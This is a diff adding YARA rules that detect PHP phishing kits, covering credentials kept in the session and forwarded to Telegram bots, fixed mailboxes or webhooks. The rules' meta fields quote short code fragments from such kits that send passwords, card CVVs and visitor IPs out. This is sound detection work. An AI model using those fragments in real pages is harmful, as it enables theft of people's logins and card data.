@@ -532,3 +532,100 @@ rule phishing_messenger_form_forward : phishing
     condition:
         filesize < 200KB and phishing__php_source and $s1 and $s2 and any of ($q*) and any of ($i*)
 }
+
+/* ----------------------------------------------------------------------
+ * PHP-side rules of the second phishing session (issue 12): the handler
+ * whose destination the PHP layer cannot read (the API host or the webhook
+ * in a config file), and the multi-step kit's session. Written from the
+ * technique and invented variants (tests/eval/gen_variants.py: kit_tg_hidden,
+ * kit_session_result, kit_session_step); the corpus and the held-out set were
+ * not opened.
+ * ---------------------------------------------------------------------- */
+
+/* Credential-named values kept in the session by an earlier step of the kit
+ * (login -> card -> OTP) and read back into the message the last step sends. */
+private rule phishing__session_credential
+{
+    strings:
+        $s1 = /\$_SESSION\s{0,4}\[\s{0,4}['"][\w-]{0,12}(pass|pwd|passwd|pswd|pin|cvv|cvc|ccnum|cardnum|card_?num|card_?no|ssn|otp|sms_?code|mmn)[\w-]{0,12}['"]\s{0,4}\]/ nocase
+    condition:
+        $s1
+}
+
+rule phishing_messenger_credential_forward : phishing
+{
+    meta:
+        description = "Credential fields and the visitor's address forwarded to a Telegram bot's sendMessage whose host is hidden (a config file, base64)"
+        severity = "high"
+        technique = "require 'tg.php'; file_get_contents($api . '/sendMessage?chat_id=' . $chat . '&text=' . urlencode(\"Pass: $p IP: $ip\"))"
+        seen = "none"
+    strings:
+        $s1 = "sendMessage" ascii
+        $s2 = "sendDocument" ascii
+        $c = "chat_id" ascii
+    condition:
+        filesize < 200KB and phishing__php_source and any of ($s*) and $c and
+        (phishing__credential_input or phishing__credential_in_message or phishing__session_credential) and
+        phishing__fingerprint and not phishing__account_handling
+}
+
+rule phishing_session_credentials_sent : phishing
+{
+    meta:
+        description = "The last step of a multi-step kit: credentials the earlier steps kept in the session, with the visitor's address, sent to a fixed mailbox, a bot or a log"
+        severity = "high"
+        technique = "$msg = 'Pass: ' . $_SESSION['pass'] . ' CVV: ' . $_SESSION['cvv'] . ' IP: ' . $ip; mail('drop@...', ...)"
+        seen = "none"
+    strings:
+        $q = "session_start" ascii
+    condition:
+        filesize < 300KB and phishing__php_source and $q and phishing__session_credential and
+        phishing__fingerprint and phishing__fixed_exfil and not phishing__account_handling
+}
+
+rule phishing_session_step_capture : phishing
+{
+    meta:
+        description = "A kit's middle step: a posted password, card or code kept in the session, then the visitor sent on to the next page"
+        severity = "medium"
+        technique = "$_SESSION['pass'] = $_POST['pass']; header('Location: card.php?session=' . md5(time()))"
+        seen = "none"
+    strings:
+        $k = /\$_SESSION\s{0,4}\[\s{0,4}['"][\w-]{0,12}(pass|pwd|passwd|pswd|pin|cvv|cvc|ccnum|cardnum|card_?num|card_?no|ssn|otp|sms_?code|mmn)[\w-]{0,12}['"]\s{0,4}\]\s{0,4}=\s{0,4}(trim\s{0,2}\(\s{0,2}|htmlspecialchars\s{0,2}\(\s{0,2}|stripslashes\s{0,2}\(\s{0,2}|@)?\$_(POST|REQUEST|GET)\s{0,4}\[/ nocase
+        $r1 = /header\s{0,4}\(\s{0,4}["']Location:/ nocase
+        $r2 = /(window\.location|location\.href|location\.replace)/
+        $r3 = /http-equiv\s{0,2}=\s{0,2}\\?["']?refresh/ nocase
+    condition:
+        filesize < 200KB and phishing__php_source and $k and any of ($r*) and not phishing__account_handling
+}
+
+rule phishing_redirect_random_session : phishing
+{
+    meta:
+        description = "A kit's redirect handler: the visitor sent on with the address from the phishing link and a random session-looking token"
+        severity = "medium"
+        technique = "header('Location: signin.php?email=' . $_GET['email'] . '&session=' . md5(uniqid()) ...)"
+        seen = "none"
+    strings:
+        $l = /(header\s{0,4}\(\s{0,4}["']Location:|location\.(href|replace)|http-equiv\s{0,2}=\s{0,2}\\?["']?refresh)[^\n]{0,200}[?&](email|e|em|mail|login|user|userid|u|ai)=[^\n]{0,200}(md5|sha1)\s{0,2}\(\s{0,2}(rand|mt_rand|time|uniqid|microtime)\s{0,2}\(/ nocase
+        $g = /\$_(GET|REQUEST)\s{0,4}\[\s{0,4}['"](email|e|em|mail|login|user|userid|u|ai)['"]\s{0,4}\]/ nocase
+    condition:
+        filesize < 100KB and phishing__php_source and $l and $g and not phishing__account_handling
+}
+
+rule phishing_credentials_posted_out : phishing
+{
+    meta:
+        description = "Posted credentials put into a message with the visitor's fingerprint and posted to a web address (a webhook, the kit author's collector)"
+        severity = "high"
+        technique = "$msg .= 'CVV : ' . $_POST['cvv'] ... 'IP : ' . $ip; curl CURLOPT_POSTFIELDS / stream context / wp_remote_post to https://..."
+        seen = "none"
+    strings:
+        $p1 = "CURLOPT_POSTFIELDS" ascii
+        $p2 = "stream_context_create" ascii
+        $p3 = "wp_remote_post" ascii
+        $u = /["']https?:\/\/[\w\\-]/
+    condition:
+        filesize < 200KB and phishing__php_source and phishing__credential_in_message and
+        phishing__fingerprint and any of ($p*) and $u and not phishing__account_handling
+}
